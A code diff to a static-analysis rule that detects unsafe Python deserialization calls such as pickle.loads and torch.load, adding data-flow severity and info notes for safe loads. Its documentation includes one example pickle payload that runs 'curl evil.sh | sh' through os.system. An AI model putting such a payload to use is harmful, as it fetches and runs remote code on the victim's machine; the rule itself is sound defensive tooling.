@@ -3,46 +3,11 @@ import { callArguments, unparenthesize } from '../../syntax/python';
 import type { SyntaxNode } from '../../syntax/syntaxNode';
 import { argumentByName, flagValue } from '../support/call-arguments';
 import { codeSnippet } from '../support/snippets';
-
-/**
- * How a loader is called: which argument holds the data, and whether that argument is the data itself (bytes or a
- * string, so a constant is harmless) or names a file (whose contents are data even when the path is constant).
- */
-interface Loader {
-  readonly family: 'pickle' | 'marshal' | 'shelve' | 'jsonpickle' | 'numpy' | 'torch';
-  readonly keywords: readonly string[];
-  readonly input: 'bytes' | 'file';
-  /** Constructs an unpickler instead of loading: "over `f`" rather than "on `f`". */
-  readonly isClass?: boolean;
-}
-
-const LOADERS = new Map<string, Loader>();
-
-const PICKLE_MODULES = ['pickle', 'cPickle', '_pickle', 'dill', 'cloudpickle'];
-for (const module of PICKLE_MODULES) {
-  LOADERS.set(`${module}.load`, { family: 'pickle', keywords: ['file'], input: 'file' });
-  LOADERS.set(`${module}.loads`, { family: 'pickle', keywords: ['data', 'str', 'string'], input: 'bytes' });
-  LOADERS.set(`${module}.Unpickler`, { family: 'pickle', keywords: ['file'], input: 'file', isClass: true });
-}
-LOADERS.set('shelve.open', { family: 'shelve', keywords: ['filename'], input: 'file' });
-LOADERS.set('marshal.load', { family: 'marshal', keywords: ['file'], input: 'file' });
-LOADERS.set('marshal.loads', { family: 'marshal', keywords: ['bytes'], input: 'bytes' });
-LOADERS.set('jsonpickle.decode', { family: 'jsonpickle', keywords: ['string'], input: 'bytes' });
-LOADERS.set('pandas.read_pickle', { family: 'pickle', keywords: ['filepath_or_buffer', 'path'], input: 'file' });
-LOADERS.set('joblib.load', { family: 'pickle', keywords: ['filename'], input: 'file' });
-LOADERS.set('sklearn.externals.joblib.load', { family: 'pickle', keywords: ['filename'], input: 'file' });
-LOADERS.set('numpy.load', { family: 'numpy', keywords: ['file'], input: 'file' });
-LOADERS.set('torch.load', { family: 'torch', keywords: ['f'], input: 'file' });
+import { SinkHits, withFlow } from '../flowRule';
+import { DESERIALIZERS as LOADERS, SERIALIZERS as DUMPERS } from '../../flow/models/serialization';
 
 /** Functions that open a file by path: `pickle.load(open("cache.pkl", "rb"))` reads a fixed file. */
 const OPENERS = new Set(['open', 'io.open', 'gzip.open', 'bz2.open', 'lzma.open', 'codecs.open']);
-
-/** Serializers whose output, fed straight back, is the program's own object (`pickle.loads(pickle.dumps(x))`). */
-const DUMPERS = new Set([
-  ...PICKLE_MODULES.map((module) => `${module}.dumps`),
-  'marshal.dumps',
-  'jsonpickle.encode',
-]);
 
 export default defineRule({
   meta: {
@@ -60,7 +25,7 @@ export default defineRule({
     fixable: false,
     docs: {
       whatItDoes:
-        'Flags loading data with formats that can run code while they load: `pickle`/`cPickle`/`dill`/`cloudpickle` `load`, `loads` and `Unpickler`, `shelve.open`, `marshal.load(s)`, `jsonpickle.decode`, `pandas.read_pickle`, `joblib.load`, `numpy.load(..., allow_pickle=True)` and `torch.load` without `weights_only=True`.',
+        'Flags loading data with formats that can run code while they load: `pickle`/`cPickle`/`dill`/`cloudpickle` `load`, `loads` and `Unpickler`, `shelve.open`, `marshal.load(s)`, `jsonpickle.decode`, `pandas.read_pickle`, `joblib.load`, `numpy.load(..., allow_pickle=True)` and `torch.load` without `weights_only=True`. When the flow layer sees request data or program input reach the loader (also through helpers), the finding is high severity and carries the path.',
       whyIsThisBad:
         'A pickle is a small program for a stack machine that may import any callable and call it: a payload whose `__reduce__` returns `(os.system, ("curl evil.sh | sh",))` runs that command the moment it is unpickled, before your code sees any object. Whoever can write the bytes — a request body, a cookie, a cache entry, an uploaded model file, a file in a shared directory — can run code in your process. `marshal` is documented as unsafe against malicious data as well.',
       example:
@@ -78,11 +43,16 @@ export default defineRule({
         'https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html',
       ],
       knownProblems:
-        'Every call is flagged whatever the data\'s origin: loading a file your own program wrote is only safe if nobody else can write it, which Vigil cannot know; loads from a constant path are reported with medium confidence. Not flagged: data that is a constant in the code, a round trip of the program\'s own object (`pickle.loads(pickle.dumps(x))`), an `Unpickler` subclass that overrides `find_class` (instances of your own class are not recognised), `numpy.load` with `allow_pickle` set from a variable, `torch.load` with `**kwargs`, and loaders reached through `getattr` or attributes (`self.loader(data)`). `torch.load` without `weights_only` is reported with medium confidence: PyTorch 2.6 and later default to `weights_only=True`.',
+        'Every call is flagged whatever the data\'s origin: loading a file your own program wrote is only safe if nobody else can write it, which Vigil cannot know; loads from a constant path are reported with medium confidence. Data that is a constant in the code and a round trip of the program\'s own object (`pickle.loads(pickle.dumps(x))`) are only `info` notes. Not flagged: an `Unpickler` subclass that overrides `find_class` (instances of your own class are not recognised), `numpy.load` with `allow_pickle` set from a variable, `torch.load` with `**kwargs`, and loaders reached through `getattr` or attributes (`self.loader(data)`). `torch.load` without `weights_only` is reported with medium confidence: PyTorch 2.6 and later default to `weights_only=True`.',
     },
   },
+  usesFlow: true,
   create(context) {
     const { model } = context;
+    const meta = { severity: 'medium', confidence: 'high' } as const;
+    /** Request data and program input reaching a loader, by the flow layer: such a finding is high severity. */
+    let sinkHits: SinkHits | undefined;
+    const loaderHits = (): SinkHits => (sinkHits ??= new SinkHits(context.flow.hits, 'deserialization'));
 
     /** Whether `data` is the program's own object serialized right here: `pickle.dumps(x)`, or a name bound once to that. */
     const isOwnRoundTrip = (data: SyntaxNode, depth = 0): boolean => {
@@ -134,8 +104,18 @@ export default defineRule({
         if (!loader) return;
         const data = argumentByName(call, 0, loader.keywords);
         if (!data && !callArguments(call).hasUnpacking) return; // not a complete call yet
-        if (data && loader.input === 'bytes' && model.isConstant(data)) return;
-        if (data && isOwnRoundTrip(data)) return;
+        // Data written in the program, or pickled by it just before: safe, and a note, as Bandit reports every load.
+        if (data && ((loader.input === 'bytes' && model.isConstant(data)) || isOwnRoundTrip(data))) {
+          context.report({
+            at: call,
+            message: `\`${callee}()\` on \`${codeSnippet(data)}\` loads the program's own data (a constant, or what it just serialized): safe here, but a format that cannot run code (\`json\`, \`copy.deepcopy\` for a copy) says so by itself`,
+            severity: 'info',
+            confidence: 'high',
+            bandit: loader.family === 'marshal' ? ['B302'] : ['B301'],
+            ruff: loader.family === 'marshal' ? ['S302'] : ['S301'],
+          });
+          return;
+        }
 
         let confidence: Report['confidence'];
         let condition = '';
@@ -184,13 +164,8 @@ export default defineRule({
           default:
             message = `${label}${on} can run arbitrary code while unpickling`;
         }
-        context.report({
-          at: call,
-          message,
-          ...(confidence ? { confidence } : {}),
-          bandit,
-          ruff,
-        });
+        const report: Report = { at: call, message, ...(confidence ? { confidence } : {}), bandit, ruff };
+        context.report(withFlow(report, loaderHits().take(call), 'high', meta));
       },
     };
   },
